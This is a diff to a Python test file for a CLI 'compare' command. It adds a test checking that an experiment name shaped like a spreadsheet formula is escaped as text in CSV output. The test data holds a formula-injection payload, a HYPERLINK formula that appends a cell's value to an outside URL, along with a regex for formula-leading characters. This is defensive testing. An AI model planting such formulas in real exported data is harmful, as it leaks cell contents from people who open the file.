@@ -9,7 +9,10 @@ from channelops.run.cli import main
 from channelops.run.folder import write_table
 
 
-def _run(root, name: str, revenue_a: float, margin_a: float, lift: float | None = None):
+def _run(
+    root, name: str, revenue_a: float, margin_a: float, lift: float | None = None,
+    experiment: str = "coupon",
+):
     run = root / name
     write_table(
         pd.DataFrame(
@@ -26,7 +29,7 @@ def _run(root, name: str, revenue_a: float, margin_a: float, lift: float | None 
     )
     if lift is not None:
         write_table(
-            pd.DataFrame({"name": ["coupon"], "diff": [5.0], "lift": [lift]}),
+            pd.DataFrame({"name": [experiment], "diff": [5.0], "lift": [lift]}),
             "experiment_results",
             run,
         )
@@ -56,6 +59,20 @@ def test_compare_prints_and_writes_deltas(tmp_path, capsys):
     )
     assert t.loc[("experiment_lift", "coupon"), "delta"] == pytest.approx(0.02)
     assert pd.isna(t.loc[("cac", "b"), "delta"])  # NaN in both runs stays NaN, no crash
+
+
+def test_compare_csv_cannot_run_a_formula_from_the_data(tmp_path, capsys):
+    """An experiment named like a spreadsheet formula is written as text ('=...)."""
+    name = '=HYPERLINK("http://x"&A1,"click")'
+    a = _run(tmp_path, "base", 100.0, 40.0, lift=0.10, experiment=name)
+    b = _run(tmp_path, "scenario", 100.0, 40.0, lift=0.12, experiment=name)
+    out = tmp_path / "cmp.csv"
+    assert main(["compare", str(a), str(b), "--out", str(out)]) == 0
+    assert name in capsys.readouterr().out, "the printed table shows the name as it is"
+    t = pd.read_csv(out)
+    assert t.loc[t["kpi"] == "experiment_lift", "scope"].tolist() == ["'" + name]
+    assert not t.astype(str).apply(lambda c: c.str.match(r"^[=+@\t\r]")).any().any()
+    assert t.loc[t["kpi"] == "experiment_lift", "delta"].iloc[0] == pytest.approx(0.02)
 
 
 def test_compare_default_path_and_table_in_one_run_only(tmp_path, capsys, monkeypatch):
